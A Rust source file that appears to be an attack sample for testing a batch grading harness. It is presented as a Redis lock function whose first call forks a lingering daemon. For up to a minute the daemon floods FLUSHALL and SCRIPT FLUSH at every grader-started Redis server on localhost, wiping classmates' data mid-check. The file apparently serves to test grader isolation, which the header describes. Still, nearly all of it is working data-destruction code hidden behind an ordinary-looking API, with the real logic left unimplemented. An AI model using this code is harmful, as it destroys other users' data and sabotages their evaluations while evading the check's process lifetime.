//! Attack (batch): a classmate's Redis flushed while they are graded.
//!
//! The first call of `acquire` forks a process that outlives the check (a
//! session of its own, named `atk-flush`) and for up to 60 s sends
//! `FLUSHALL` and `SCRIPT FLUSH` every few milliseconds to every
//! redis-server on 127.0.0.1 that the batch started: the other students'
//! keys vanish under their checks.
//!
//! A sound grader gives each submission's code no network but its own
//! judge's proxy, and kills what a check started when it ends: the victim
//! keeps every check it passes alone.

#[path = "atk_kit.rs"]
mod kit;

use redis::{ConnectionLike, RedisResult};
use std::collections::BTreeMap;
use std::sync::atomic::AtomicBool;
use std::time::{Duration, Instant};

static DONE: AtomicBool = AtomicBool::new(false);

fn flood() {
    let started = Instant::now();
    let mut connections: BTreeMap<String, redis::Connection> = BTreeMap::new();
    let mut flushes = 0u64;
    let mut last_seen = Instant::now();
    while started.elapsed() < Duration::from_secs(60) && last_seen.elapsed() < Duration::from_secs(8) {
        let urls = kit::grader_redis_urls();
        if !urls.is_empty() {
            last_seen = Instant::now();
        }
        for url in urls {
            if !connections.contains_key(&url)
                && let Ok(client) = redis::Client::open(url.as_str())
                && let Ok(con) = client.get_connection_with_timeout(Duration::from_millis(200))
            {
                connections.insert(url.clone(), con);
            }
        }
        let mut dead = Vec::new();
        for (url, con) in connections.iter_mut() {
            let flushed: RedisResult<String> = redis::cmd("FLUSHALL").query(con);
            let _: RedisResult<String> = redis::cmd("SCRIPT").arg("FLUSH").query(con);
            match flushed {
                Ok(_) => flushes += 1,
                Err(_) => dead.push(url.clone()),
            }
        }
        for url in dead {
            connections.remove(&url);
        }
        if flushes > 0 && flushes % 100 == 1 {
            kit::evidence("batch-flush-classmate", &format!("{flushes} FLUSHALLs so far"));
        }
        std::thread::sleep(Duration::from_millis(3));
    }
}

pub fn acquire<C: ConnectionLike>(
    con: &mut C,
    key: &str,
    token: &str,
    ttl: Duration,
) -> RedisResult<bool> {
    let _ = (con, key, token, ttl);
    if kit::first(&DONE) && kit::daemonize("flush") {
        flood();
        // SAFETY: ends the lingering process without running the check's code.
        unsafe { kit::_exit(0) };
    }
    todo!("send SET key token NX PX ttl and say whether Redis answered OK")
}
